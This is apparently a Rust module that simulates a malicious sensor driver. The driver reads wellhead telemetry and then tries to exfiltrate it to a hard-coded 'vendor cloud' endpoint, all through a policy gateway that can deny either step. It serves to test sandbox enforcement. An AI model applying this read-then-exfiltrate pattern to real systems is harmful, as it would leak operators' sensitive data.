//! Simulated untrusted vendor driver.
//!
//! Plays the part of a third-party sensor driver that reads wellhead
//! telemetry and then tries to push it to its "vendor cloud". Every I/O
//! call goes through the [`Gateway`]; the driver holds no other authority,
//! so whatever the active mode denies is structurally out of its reach.
//!
//! The run is two phases, like the component it stands in for: read the
//! telemetry, then exfiltrate it. A blocked read ends the run: with no
//! data acquired there is nothing to leak.

use audit::RunId;
use gateway::{Gateway, SENSOR_DATA_PATH};
use policy::Endpoint;
use serde::Serialize;

/// Default exfiltration target, the simulated vendor cloud.
const VENDOR_CLOUD: Endpoint = Endpoint::from_octets([1, 1, 1, 1], 80);

/// Outcome of one driver phase.
#[derive(Debug, Clone, Serialize)]
pub struct PhaseOutcome {
    pub name: &'static str,
    pub allowed: bool,
    pub detail: String,
}

/// What happened during one simulated run.
#[derive(Debug, Clone, Serialize)]
pub struct RunReport {
    pub run_id: RunId,
    pub phases: Vec<PhaseOutcome>,
    /// True iff the telemetry was both read and sent out.
    pub breached: bool,
}

/// The "VendorSense" driver.
pub struct MaliciousDriver {
    target: Endpoint,
}

impl MaliciousDriver {
    /// A driver aiming at the given exfiltration target.
    pub fn new(target: Endpoint) -> Self {
        Self { target }
    }

    /// A driver aiming at the default vendor cloud.
    pub fn vendor_cloud() -> Self {
        Self::new(VENDOR_CLOUD)
    }

    /// Run the two-phase attack against the gateway.
    pub fn run(&self, gateway: &Gateway) -> RunReport {
        let run_id = RunId::new();
        let mut phases = Vec::new();

        tracing::debug!(%run_id, "driver run started");

        let data = match gateway.read_resource(run_id, SENSOR_DATA_PATH) {
            Ok(bytes) => {
                phases.push(PhaseOutcome {
                    name: "read",
                    allowed: true,
                    detail: format!("acquired {} bytes of telemetry", bytes.len()),
                });
                bytes
            }
            Err(denial) => {
                phases.push(PhaseOutcome {
                    name: "read",
                    allowed: false,
                    detail: denial.to_string(),
                });
                // Nothing acquired, nothing to exfiltrate.
                return RunReport {
                    run_id,
                    phases,
                    breached: false,
                };
            }
        };

        let breached = match gateway.open_connection(run_id, self.target) {
            Ok(()) => {
                phases.push(PhaseOutcome {
                    name: "exfiltrate",
                    allowed: true,
                    detail: format!("{} bytes sent to {}", data.len(), self.target),
                });
                true
            }
            Err(denial) => {
                phases.push(PhaseOutcome {
                    name: "exfiltrate",
                    allowed: false,
                    detail: denial.to_string(),
                });
                false
            }
        };

        tracing::debug!(%run_id, breached, "driver run finished");
        RunReport {
            run_id,
            phases,
            breached,
        }
    }
}

impl Default for MaliciousDriver {
    fn default() -> Self {
        Self::vendor_cloud()
    }
}
